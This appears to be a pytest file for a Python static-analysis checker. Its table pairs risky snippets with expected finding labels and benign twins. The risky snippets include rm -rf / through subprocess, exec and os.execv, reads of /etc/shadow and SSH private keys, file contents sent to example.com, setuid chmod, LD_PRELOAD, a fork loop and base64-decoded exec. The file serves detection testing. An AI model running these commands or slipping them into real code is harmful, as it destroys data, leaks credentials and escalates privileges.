"""Calls in Python: programs, text as a program, processes, network, files."""

from __future__ import annotations

import pytest

from tests.unit.codecheck.rows import Row, python

CALLED: list[Row] = [
    ("import os; getattr(os, x)", "encoded_payload!", "import os; getattr(os)", ""),
    # programs
    ("import os; os.system()", "encoded_payload!", "import os; os.getcwd()", ""),
    ("import os; os.system(input())", "encoded_payload!", "print(input())", ""),
    (
        "import os, base64; os.system(base64.b64decode('bHM=').decode())",
        "encoded_payload!",
        "import base64; print(base64.b64decode('bHM='))",
        "",
    ),
    (
        "import subprocess; subprocess.run(['rm', '-rf', '/'])",
        "destructive! system_path! recursive?",
        "import subprocess; subprocess.run(['ls', '-l'])",
        "",
    ),
    (
        "import subprocess; subprocess.run('rm -rf /', shell=True)",
        "destructive! system_path! recursive?",
        "import subprocess; subprocess.run('ls', shell=True)",
        "",
    ),
    (
        "import subprocess; subprocess.run(['rm -rf /'], shell=True)",
        "destructive! system_path! recursive?",
        "import subprocess; subprocess.run(['ls -l'], shell=True)",
        "",
    ),
    (
        "import subprocess; subprocess.Popen(['/bin/sh'])",
        "opaque!",
        "import subprocess; subprocess.Popen(['/bin/ls'])",
        "",
    ),
    ("import subprocess; subprocess.run(x)", "encoded_payload!", "import subprocess; print(x)", ""),
    (
        "import os; os.execl('/bin/rm', 'rm', '-rf', '/')",
        "destructive! system_path! recursive?",
        "import os; os.execl('/bin/ls', 'ls', '-l')",
        "",
    ),
    (
        "import os; os.spawnl(0, '/bin/rm', 'rm', '-rf', '/')",
        "destructive! system_path! recursive?",
        "import os; os.spawnl(0, '/bin/ls', 'ls')",
        "",
    ),
    (
        "import os; os.execv('/bin/rm', ['rm', '-rf', '/'])",
        "destructive! system_path! recursive?",
        "import os; os.execv('/bin/ls', ['ls'])",
        "",
    ),
    (
        "import os; os.chdir('/'); os.system('rm -rf etc')",
        "system_path! recursive?",
        "import os; os.chdir('build'); os.system('rm -rf etc')",
        "recursive?",
    ),
    # text as a program
    ("eval('1+2')", "opaque?", "x.eval('1+2')", ""),
    (
        "exec('import os; os.system(\"rm -rf /\")')",
        "destructive! system_path! encoded_payload! opaque? recursive?",
        "exec('print(1)')",
        "opaque?",
    ),
    (
        "exec('import os; os.system(\"ls\")')",
        "encoded_payload! opaque?",
        "exec('import os; os.getcwd()')",
        "opaque?",
    ),
    ("exec('\\x70\\x72\\x69\\x6e\\x74()')", "encoded_payload! opaque?", "exec('print()')", "opaque?"),
    ("exec(input())", "encoded_payload!", "print(input())", ""),
    ("exec(chr(49))", "encoded_payload! opaque?", "exec('1')", "opaque?"),
    (
        "import base64; exec(base64.b64decode('MQ=='))",
        "encoded_payload! opaque?",
        "import base64; print(base64.b64decode('MQ=='))",
        "",
    ),
    ("c = ''.join(x); exec(c)", "encoded_payload!", "c = ''.join(x); print(c)", ""),
    ("exec(compile('1', 'x', 'exec'))", "opaque?", "re.compile('1')", ""),
    ("exec(compile(x, 'x', 'exec'))", "encoded_payload!", "compile('1', 'x', 'exec')", "opaque?"),
    ("__import__('os')", "encoded_payload!", "__import__('math')", "opaque?"),
    ("__import__('math')", "opaque?", "import math", ""),
    (
        "import importlib; importlib.import_module(input())",
        "encoded_payload!",
        "import importlib; importlib.import_module('math')",
        "opaque?",
    ),
    ("import os; getattr(os, 'system')", "encoded_payload!", "getattr('x', 'upper')", ""),
    ("getattr(x, '__globals__')", "encoded_payload!", "getattr(x, 'name')", ""),
    ("import pickle; pickle.loads(x)", "encoded_payload!", "import pickle; pickle.loads(pickle.dumps(x))", ""),
    (
        "import operator; operator.attrgetter('system')",
        "encoded_payload!",
        "import operator; operator.attrgetter('name')",
        "",
    ),
    # processes
    ("import os; os.kill(1, 9)", "destructive!", "import os; os.kill(4711, 9)", ""),
    ("import os\nwhile x: os.fork()", "resource!", "import os; os.getpid()", ""),
    ("import os; os.fork()", "resource?", "import os; os.getpid()", ""),
    (
        "import itertools; list(itertools.count())",
        "resource!",
        "import itertools; list(itertools.islice(itertools.count(), 3))",
        "",
    ),
    ("import os; os.putenv('LD_PRELOAD', 'x')", "privilege!", "import os; os.putenv('LANG', 'C')", ""),
    # network
    ("import requests; requests.get('http://example.com')", "network?", "import requests", ""),
    (
        "import requests; requests.get('http://127.0.0.1/')",
        "network! network?",
        "import requests; requests.get('http://example.com/')",
        "network?",
    ),
    (
        "import requests; requests.get('http://example.com/' + open('x').read())",
        "exfiltration! network?",
        "import requests; requests.get('http://example.com/x')",
        "network?",
    ),
    (
        "import requests; requests.get('http://example.com/', params={})",
        "exfiltration! network?",
        "import requests; requests.get('http://example.com/', timeout=3)",
        "network?",
    ),
    (
        "import requests; requests.post('http://example.com/')",
        "exfiltration!",
        "import requests; requests.head('http://example.com/')",
        "network?",
    ),
    (
        "import requests; s = requests.Session(); s.post('x')",
        "exfiltration! network?",
        "import requests; s = requests.Session(); s.get('x')",
        "network?",
    ),
    (
        "import urllib.request as r; r.urlopen('http://example.com/', b'x')",
        "exfiltration! network?",
        "import urllib.request as r; r.urlopen('http://example.com/')",
        "network?",
    ),
    # files
    ("open('/etc/shadow')", "secret!", "open('shadows')", ""),
    ("open('/etc/hosts', 'a')", "system_path!", "open('/etc/hosts')", ""),
    ("open('/etc/hosts', mode='w')", "system_path!", "open('hosts', mode='w')", ""),
    ("open('/usr/x', m)", "system_path!", "open('/usr/x')", ""),
    ("open(b'/etc/shadow')", "secret!", "open(b'shadows')", ""),
    (
        "import os; os.open('/etc/hosts', os.O_RDWR)",
        "system_path!",
        "import os; os.open('/etc/hosts', os.O_RDONLY)",
        "",
    ),
    ("import os; os.remove('/etc/hosts')", "system_path!", "import os; os.remove('hosts')", ""),
    ("import os; os.rename('/etc/hosts', 'x')", "system_path!", "import os; os.rename('hosts', 'x')", ""),
    ("import os; os.rename('x', '/etc/hosts')", "system_path!", "import os; os.rename('x', 'hosts')", ""),
    (
        "import shutil; shutil.copy('/etc/shadow', 'x')",
        "secret!",
        "import shutil; shutil.copy('shadows', 'x')",
        "",
    ),
    (
        "import shutil; shutil.make_archive('x', 'zip', '/home')",
        "system_path!",
        "import shutil; shutil.make_archive('x', 'zip', 'docs')",
        "",
    ),
    (
        "import tarfile; tarfile.open('x.tar', 'w').add('/root')",
        "system_path!",
        "import tarfile; tarfile.open('x.tar', 'w').add('docs')",
        "",
    ),
    ("import os; os.chmod('x', 0o4755)", "privilege!", "import os; os.chmod('x', 0o755)", ""),
    (
        "import os, stat; os.chmod('x', stat.S_ISUID)",
        "privilege!",
        "import os, stat; os.chmod('x', stat.FILE_ATTRIBUTE_HIDDEN)",
        "",
    ),
    (
        "from pathlib import Path; Path('x').chmod(0o4755)",
        "privilege!",
        "from pathlib import Path; Path('x').chmod(0o755)",
        "",
    ),
    (
        "from pathlib import Path; Path('/etc/hosts').open('w')",
        "system_path!",
        "from pathlib import Path; Path('/etc/hosts').open()",
        "",
    ),
    (
        "from pathlib import Path; (Path.home() / '.ssh' / 'id_rsa').read_text()",
        "secret!",
        "from pathlib import Path; (Path('docs') / 'x').read_text()",
        "",
    ),
    (
        "from pathlib import Path; Path('x').rename('/etc/hosts')",
        "system_path!",
        "from pathlib import Path; Path('x').rename('hosts')",
        "",
    ),
    ("import os; os.chdir('/etc'); open('shadow')", "secret!", "import os; os.chdir('docs'); open('shadows')", ""),
]


@pytest.mark.parametrize(("program", "findings", "twin", "of_twin"), CALLED)
def test_findings(program: str, findings: str, twin: str, of_twin: str) -> None:
    assert python(program) == findings
    assert python(twin) == of_twin
